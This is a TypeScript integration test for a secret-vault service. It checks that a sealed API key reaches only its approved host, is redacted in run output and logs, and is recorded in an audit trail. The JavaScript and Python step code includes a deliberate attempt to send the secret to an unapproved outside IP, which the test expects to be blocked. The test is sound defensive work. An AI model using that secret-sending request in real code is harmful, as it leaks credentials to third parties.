/**
 * A sealed secret from the vault to the server that it is for, on real parts: queue, PostgreSQL, sandbox, broker. Goal: the
 * server gets it, and nobody else has seen it.
 */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { findTraces } from "../../cli/demo/traces.ts";
import { openTestService, type TestService } from "../helpers/service.ts";
import { startUpstream, type Upstream } from "../helpers/upstream.ts";
import { setSecret } from "../helpers/vault.ts";

const sealedKey = "sk_sealed_Tq81Yw5Er2Ui9Op4Lk7";
let upstream: Upstream;
let stepvault: TestService;
let url: string;

beforeAll(async () => {
  upstream = await startUpstream({ tls: false });
  const host = `127.0.0.1:${upstream.port}`;
  url = `http://${host}/`;
  stepvault = await openTestService({ STEPVAULT_EGRESS_OPEN: host });
  const policy = { sealed: true, hosts: [host] };
  await setSecret(stepvault.service.vault, stepvault.projectId, "sealed_key", sealedKey, policy);
});
afterAll(async () => {
  await stepvault.close();
  upstream.close();
});

describe("a sealed secret of the vault", () => {
  for (const [language, code] of [
    [
      "javascript",
      `const ask = async (key) => await (await fetch(params.url, { headers: { "x-api-key": key } })).json();
const { headers } = await ask(<<secrets.sealed_key>>);
const refused = await fetch("http://93.184.216.34/", { headers: { "x-api-key": <<secrets.sealed_key>> } }).catch((e) => e.code);
return [headers["x-api-key"], refused, inputs.auth]`,
    ],
    [
      "python",
      `import json, urllib.request, urllib.error
def ask(url): return json.load(urllib.request.urlopen(urllib.request.Request(url, headers={"X-Api-Key": "<<secrets.sealed_key>>"})))
try: ask("http://93.184.216.34/")
except urllib.error.URLError as error: refused = "ERR_SEALED_REFUSED" if "ERR_SEALED_REFUSED" in str(error) else str(error)
return [ask(params["url"])["headers"]["x-api-key"], refused, inputs["auth"]]`,
    ],
  ] as const) {
    test(`is used by a run that never holds it (${language})`, async () => {
      upstream.take();
      const inputs = { auth: "Bearer <<secrets.sealed_key>>" };
      const result = await stepvault.run({ step: { language, code, inputs }, params: { url } });
      expect(result.error).toBeUndefined();
      expect(result.output).toEqual([
        "[REDACTED:sealed_key]",
        "ERR_SEALED_REFUSED",
        expect.stringMatching(/^Bearer sealed_[0-9a-f]{32}$/),
      ]);
      expect(upstream.take().map(({ headers }) => headers["x-api-key"])).toEqual([sealedKey]);
      const events = await stepvault.events(result.runId);
      expect(events).toContainEqual(
        expect.objectContaining({ kind: "security", action: "blocked", reason: "host", secrets: ["sealed_key"] }),
      );
      expect(events).toContainEqual(
        expect.objectContaining({
          kind: "request",
          status: 200,
          secrets: ["sealed_key"],
          headersMs: expect.any(Number),
        }),
      );
      expect(JSON.stringify([result, events])).not.toContain(sealedKey);
    });
  }
  test("has each use in the audit log, with the run and the version, and why there was none", async () => {
    const { service, projectId } = stepvault;
    const { organizationId } = await service.vault.tenancy.getProject(projectId);
    const used = await stepvault.run({
      step: { language: "javascript", code: "return <<secrets.sealed_key>>.length" },
    });
    const failed = await stepvault.run({ step: { language: "javascript", code: "return <<secrets.absent>>" } });
    expect([used.status, failed.error?.code]).toEqual(["succeeded", "ERR_SECRET_UNKNOWN"]);
    const events = await service.vault.audit.list({ organizationId, projectId, limit: 2 });
    expect(events).toMatchObject([
      { event: "secret.use", outcome: "failure", reason: "ERR_SECRET_UNKNOWN", via: { runId: failed.runId } },
      {
        event: "secret.use",
        outcome: "success",
        class: "data-access",
        actor: { kind: "system", id: "worker" },
        via: { runId: used.runId },
        target: [{ type: "secret", name: "sealed_key", version: 1 }],
      },
    ]);
    expect((await service.vault.audit.verify({ organizationId })).broken).toBeUndefined();
  });
  test("is in no table, file or log after these runs", async () => {
    const { service, folder, log } = stepvault;
    expect((await findTraces(service.database, folder, [sealedKey])).found).toEqual([]);
    expect(log.join("")).not.toContain(sealedKey);
  });
});
